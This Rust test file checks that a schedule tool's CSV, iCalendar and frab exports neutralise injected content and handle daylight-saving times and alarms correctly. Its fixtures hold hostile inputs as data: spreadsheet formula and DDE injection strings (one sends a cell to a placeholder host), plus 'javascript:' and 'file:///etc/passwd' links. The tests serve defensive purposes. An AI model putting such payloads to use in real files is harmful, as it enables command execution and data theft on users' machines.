//! Exports that cannot attack the program that opens them and mean what the schedule meant:
//! no formula in a spreadsheet, no `javascript:` link in a calendar or a schedule app, URLs
//! encoded, the hour the clocks go back written so that it means one instant, alarms to the
//! second, frab ids unique.

use super::*;

/// A dataset of `events` (JSON objects of a lotse file) at a conference in Berlin.
fn berlin(events: &str) -> Dataset {
    let json = format!(
        r#"{{"lotse": 1, "title": "Hostile Camp", "programme": {{"time_zone": "Europe/Berlin"}},
            "events": [{events}]}}"#
    );
    Dataset::from_str(&json).expect("the dataset loads").dataset
}

fn all(dataset: &Dataset) -> Vec<EntityRef> {
    dataset.entities_of(Kind::Event).collect()
}

/// The trigger characters a spreadsheet evaluates a cell after (OWASP's list).
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[test]
fn no_cell_of_a_csv_export_starts_a_formula() {
    let titles = [
        r#"=HYPERLINK("http://x/?"&A1,"y")"#,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1",
        "Plain talk",
    ];
    let events: Vec<String> = titles
        .iter()
        .enumerate()
        .map(|(n, title)| {
            serde_json::json!({
                "id": format!("t{n}"), "title": title,
                "summary": "=1+1", "venue": "@room", "url": "-x",
                "start": "2025-08-01T10:00:00+02:00"
            })
            .to_string()
        })
        .collect();
    let dataset = berlin(&events.join(","));
    let csv = export(&dataset, ExportFormat::Csv, &all(&dataset));
    // Read as a spreadsheet reads it: the csv crate, and Python's csv module where there is
    // one (an independent reader).
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let mut titles_read = Vec::new();
    for record in reader.records() {
        let record = record.unwrap();
        for cell in &record {
            assert!(!cell.starts_with(TRIGGERS), "a formula cell: {cell:?}");
        }
        titles_read.push(record[1].to_owned());
    }
    // The text stays (as loaded: a tab is a space by then), a `'` before it, which a
    // spreadsheet does not show.
    let mut expected: Vec<String> = all(&dataset)
        .iter()
        .map(|&e| dataset.name(e))
        .map(|t| match t.starts_with(TRIGGERS) {
            true => format!("'{t}"),
            false => t.to_owned(),
        })
        .collect();
    expected.sort();
    titles_read.sort();
    assert_eq!(titles_read, expected);
    python_reads_no_formula(&csv);
}

/// Python's csv module reads every cell; none starts a formula.
fn python_reads_no_formula(csv: &str) {
    let script = "import csv, sys\n\
                  rows = list(csv.reader(sys.stdin))\n\
                  bad = [c for r in rows[1:] for c in r if c[:1] in ('=', '+', '-', '@', '\\t', '\\r')]\n\
                  print(len(rows) - 1, len(bad))\n";
    let run = Command::new("python3")
        .args(["-c", script])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn();
    let Ok(mut child) = run else {
        common::skip("python_reads_no_formula", "python3 is not installed");
        return;
    };
    use std::io::Write as _;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(csv.as_bytes())
        .unwrap();
    let output = child.wait_with_output().unwrap();
    assert_eq!(String::from_utf8_lossy(&output.stdout).trim(), "6 0");
}

#[test]
fn only_web_addresses_reach_a_calendar_or_a_schedule_app_and_encoded() {
    let dataset = berlin(
        r#"{"id": "a", "title": "Bad link", "url": "javascript:alert(document.cookie)",
            "links": ["javascript:alert(1)", "file:///etc/passwd", "https://example.org/a b"],
            "start": "2025-08-01T10:00:00+02:00", "end": "2025-08-01T11:00:00+02:00"},
           {"id": "b", "title": "Spaced", "url": "https://example.org/my talk?x=1 2",
            "start": "2025-08-01T12:00:00+02:00", "end": "2025-08-01T13:00:00+02:00"}"#,
    );
    let ics = export(&dataset, ExportFormat::Ics, &all(&dataset));
    assert!(!ics.to_ascii_lowercase().contains("javascript"), "{ics}");
    assert!(
        ics.contains("URL:https://example.org/my%20talk?x=1%202\r\n"),
        "{ics}"
    );
    assert_eq!(ics.matches("URL:").count(), 1, "{ics}");
    let frab: serde_json::Value =
        serde_json::from_str(&export(&dataset, ExportFormat::Frab, &all(&dataset))).unwrap();
    let talks: Vec<&serde_json::Value> = frab["schedule"]["conference"]["days"][0]["rooms"][""]
        .as_array()
        .unwrap()
        .iter()
        .collect();
    assert_eq!(talks[0]["url"], "urn:lotse:hostile_camp:a");
    assert_eq!(
        talks[0]["links"],
        serde_json::json!([{"url": "https://example.org/a%20b", "title": "https://example.org/a b"}])
    );
    assert_eq!(talks[1]["url"], "https://example.org/my%20talk?x=1%202");
    // And the summary says what was left out.
    let file = std::env::temp_dir().join(format!("lotse-links-{}.json", std::process::id()));
    std::fs::write(&file, dataset.to_document().to_json()).unwrap();
    for (format, said) in [
        ("frab", "3 links that are no web address"),
        ("ics", "1 URLs that are no web address left out"),
    ] {
        let output = lotse(
            &["--dataset", file.to_str().unwrap(), "export", format],
            &[],
        );
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains(said), "{format}: {stderr}");
    }
}

#[test]
fn talks_in_the_hours_the_clocks_change_export_and_import_back_at_the_same_instants() {
    // Autumn 2019 in Berlin: 02:00–03:00 comes twice (+02:00, then +01:00). Spring 2020:
    // 02:00–03:00 never comes.
    let dataset = berlin(
        r#"{"id": "first", "title": "In the first 02:30", "start": "2019-10-27T02:30:00+02:00",
            "end": "2019-10-27T03:30:00+01:00"},
           {"id": "second", "title": "In the second 02:30", "start": "2019-10-27T02:30:00+01:00",
            "end": "2019-10-27T03:00:00+01:00"},
           {"id": "across", "title": "Ends in the repeat", "start": "2019-10-27T01:45:00+02:00",
            "end": "2019-10-27T02:15:00+01:00"},
           {"id": "spring", "title": "Across the gap", "start": "2020-03-29T01:30:00+01:00",
            "end": "2020-03-29T03:30:00+02:00"}"#,
    );
    let ics = export(&dataset, ExportFormat::Ics, &all(&dataset));
    let back = lotse::import::from_bytes(ics.as_bytes(), "back.ics", "back.ics")
        .expect("lotse reads its export")
        .loaded
        .dataset;
    for event in all(&dataset) {
        let title = dataset.name(event);
        let again = back
            .entities_of(Kind::Event)
            .find(|&e| back.name(e) == title)
            .unwrap_or_else(|| panic!("{title} is not in the export"));
        for field in [
            lotse::model::schema::event::START,
            lotse::model::schema::event::END,
        ] {
            let (before, after) = (dataset.text(event, field), back.text(again, field));
            assert_eq!(
                before.map(instant),
                after.map(instant),
                "{title}: {before:?} came back as {after:?}\n{ics}"
            );
        }
    }
    // The ones on the repeated clock are written in UTC; the others keep Berlin's clock.
    assert!(ics.contains("DTSTART:20191027T003000Z"), "{ics}");
    assert!(ics.contains("DTSTART:20191027T013000Z"), "{ics}");
    assert!(ics.contains("DTEND:20191027T011500Z"), "{ics}");
    assert!(
        ics.contains("DTSTART;TZID=Europe/Berlin:20200329T013000"),
        "{ics}"
    );
}

#[test]
fn a_talk_that_ends_in_the_repeated_hour_keeps_its_end_in_the_agenda() {
    let timing = lotse::model::Timing::parse(
        "2019-10-27T01:45:00+02:00",
        Some("2019-10-27T02:15:00+01:00"),
    )
    .unwrap();
    assert_eq!(timing.clock_span(), "01:45–02:15");
    let repeat = lotse::model::Timing::parse(
        "2019-10-27T02:30:00+02:00",
        Some("2019-10-27T02:15:00+01:00"),
    )
    .unwrap();
    assert_eq!(
        repeat.clock_span(),
        "02:30–02:15",
        "45 minutes, the clock gone back"
    );
    assert_eq!(repeat.end.duration_since(repeat.start).as_secs(), 45 * 60);
}

#[test]
fn an_alarm_is_set_to_the_second_asked() {
    let file = std::env::temp_dir().join(format!("lotse-alarm-{}.json", std::process::id()));
    let dataset = berlin(r#"{"id": "a", "title": "T", "start": "2025-08-01T10:00:00+02:00"}"#);
    std::fs::write(&file, dataset.to_document().to_json()).unwrap();
    let export = |alarm: &str| {
        let file = file.to_str().unwrap();
        lotse(&["--dataset", file, "export", "ics", "--alarm", alarm], &[])
    };
    for (alarm, trigger) in [
        ("90s", "TRIGGER:-PT90S"),
        ("10m", "TRIGGER:-PT10M"),
        ("1h30m", "TRIGGER:-PT90M"),
    ] {
        let ics = String::from_utf8_lossy(&export(alarm).stdout).into_owned();
        assert!(ics.contains(trigger), "{alarm}: {ics}");
    }
    for refused in ["0s", "1.5s", "8d", "-10m"] {
        let output = export(refused);
        assert_eq!(output.status.code(), Some(2), "{refused}");
    }
}
